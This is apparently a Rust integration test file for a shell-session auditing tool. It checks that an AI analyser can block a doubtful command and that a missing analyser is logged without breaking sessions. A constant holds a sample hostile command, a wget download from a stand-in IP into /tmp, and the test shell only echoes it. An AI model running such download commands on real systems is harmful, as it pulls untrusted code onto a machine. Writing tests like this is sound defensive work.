//! An analyser server takes part: it can raise what the rules leave doubtful, and its absence
//! harms nobody.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Stdio};

use crate::sandbox::{Sandbox, until};
use crate::terminal::Terminal;

const ENGINES: [&str; 5] = ["hybrid", "async", "threaded", "poll", "multiproc"];

/// Doubtful: the rules say something and do not block.
const DOUBTFUL: &str = "wget http://198.51.100.7/a -O /tmp/a";

/// A process that is ended, by its id, when the test is over.
struct Server(Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A shell that reads lines and echoes them, so that nothing that is typed is run.
fn session(sandbox: &Sandbox, engine: &str, url: &str) -> Terminal {
    let script = "echo up; while read -r line; do echo \"line: $line\"; done";
    let mut command = sandbox.command(["run", "--engine", engine, "--", "sh", "-c", script]);
    command.env("AUDITTY_AI__ENABLED", "true");
    command.env("AUDITTY_AI__SERVER_URL", url);
    command.env("AUDITTY_AI__ANALYSIS_TIMEOUT", "1");
    let mut terminal = Terminal::start(command);
    terminal.expect("up");
    terminal
}

/// A language model's service that finds everything dangerous.
fn alarmed_model() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || listener.incoming().flatten().for_each(alarm));
    format!("http://{address}/v1/messages")
}

fn alarm(mut stream: TcpStream) {
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut length = 0;
    let mut line = String::new();
    while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
        if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = value.trim().parse().unwrap();
        }
        line.clear();
    }
    reader.read_exact(&mut vec![0; length]).unwrap();
    let text = r#"{\"score\":0.95,\"label\":\"download_exec\",\"reason\":\"told_so\"}"#;
    let body = format!(r#"{{"content":[{{"type":"text","text":"{text}"}}]}}"#);
    let head =
        format!("HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: {}\r\n\r\n", body.len());
    stream.write_all((head + &body).as_bytes()).unwrap();
}

/// `auditty analyze` in front of that model, and its address.
fn analyser(sandbox: &Sandbox) -> (Server, String) {
    let model = alarmed_model();
    let args = ["analyze", "--listen", "127.0.0.1:0", "--backend", "llm", "--llm-url", &model];
    let mut command = sandbox.command(args);
    command.args(["--llm-model", "stand-in"]).stdout(Stdio::piped());
    let mut server = Server(command.spawn().unwrap());
    let mut line = String::new();
    BufReader::new(server.0.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let url = line.trim().strip_prefix("listening on ").expect("an address").to_owned();
    (server, url)
}

#[test]
fn an_analyser_raises_what_the_rules_leave_doubtful() {
    for engine in ENGINES {
        let sandbox = Sandbox::new();
        let (_server, url) = analyser(&sandbox);
        let mut terminal = session(&sandbox, engine, &url);
        terminal.type_in(&format!("{DOUBTFUL}\r"));
        terminal.expect("session blocked");
        let ran = sandbox.run(["ctl", "reject"]);
        assert_eq!(ran.status, 0, "{engine}: {ran:?}");
        assert_eq!(terminal.finish().0, 77, "{engine}");
    }
}

#[test]
fn an_analyser_that_is_killed_or_never_answers_harms_nobody_and_the_journal_says_so() {
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let silent = format!("ws://{}/ai", silent.local_addr().unwrap());
    for engine in ENGINES {
        for url in [None, Some(&silent)] {
            let sandbox = Sandbox::new();
            let url = url.cloned().unwrap_or_else(|| {
                let (mut server, url) = analyser(&sandbox);
                server.0.kill().unwrap();
                server.0.wait().unwrap();
                url
            });
            let mut terminal = session(&sandbox, engine, &url);
            terminal.type_in(&format!("{DOUBTFUL}\r"));
            terminal.expect("line: wget");
            let id = sandbox.sessions().remove(0);
            until("the journal says that nobody answered", || {
                let ran = sandbox.run(["export", &id, "--format", "jsonl"]);
                String::from_utf8_lossy(&ran.stdout).contains("analyser.away")
            });
            terminal.type_in("after\r");
            terminal.expect("line: after");
            terminal.type_in("\u{4}");
            assert_eq!(terminal.finish().0, 0, "{engine}");
        }
    }
}
